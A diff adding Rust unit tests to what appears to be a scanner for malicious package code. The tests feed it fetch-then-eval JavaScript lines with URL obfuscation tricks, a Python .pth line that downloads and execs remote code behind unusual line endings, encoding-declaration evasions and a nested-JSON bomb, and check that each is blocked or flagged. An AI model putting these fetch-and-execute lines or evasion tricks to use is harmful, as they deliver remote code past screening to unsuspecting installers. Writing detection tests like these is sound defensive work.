@@ -221,3 +221,41 @@ fn a_registry_is_told_by_its_host() {
     }
     assert_eq!(of("https://registry.npmjs.org/x").verdict, Verdict::Review);
 }
+
+#[test]
+fn an_address_is_what_clients_take_it_for() {
+    for url in [
+        " https://cdn.invalid/a",
+        "https:/cdn.invalid/a",
+        "https:cdn.invalid/a",
+        "https:\\\\\\\\cdn.invalid/a",
+        "ht\\ttps://cdn.invalid/a",
+        "https://cdn.invalid\\\\@registry.npmjs.org/a",
+    ] {
+        let code = format!("fetch('{url}').then(r => r.text()).then(eval)\n");
+        assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block, "{url}");
+    }
+    let code =
+        "fetch('https://cdn.invalid:' + process.env.PORT + '/a').then(r => r.text()).then(eval)\n";
+    assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block);
+}
+
+#[test]
+fn what_another_encoding_or_another_end_of_lines_hides_is_told() {
+    for coding in ["raw_unicode_escape", "utf-7", "rot13"] {
+        let code = format!("# -*- coding: {coding} -*-\nx = 1\n");
+        assert_eq!(screened(&[("main.py", code.as_bytes())]).verdict, Verdict::Incomplete);
+    }
+    let code = "# -*- coding: utf_8 -*-\nx = 1\n";
+    assert_eq!(screened(&[("main.py", code.as_bytes())]).verdict, Verdict::NoFindings);
+    for end in ['\r', '\x0c', '\x0b'] {
+        let code = format!(
+            "x{end}import urllib.request as u;exec(u.urlopen('https://a.invalid/x').read()){end}"
+        );
+        assert_eq!(screened(&[("a.pth", code.as_bytes())]).verdict, Verdict::Block, "{end:?}");
+    }
+    let deep = "[".repeat(100_000);
+    for name in ["package.json", ".vscode/tasks.json"] {
+        assert_eq!(screened(&[(name, deep.as_bytes())]).verdict, Verdict::Incomplete);
+    }
+}
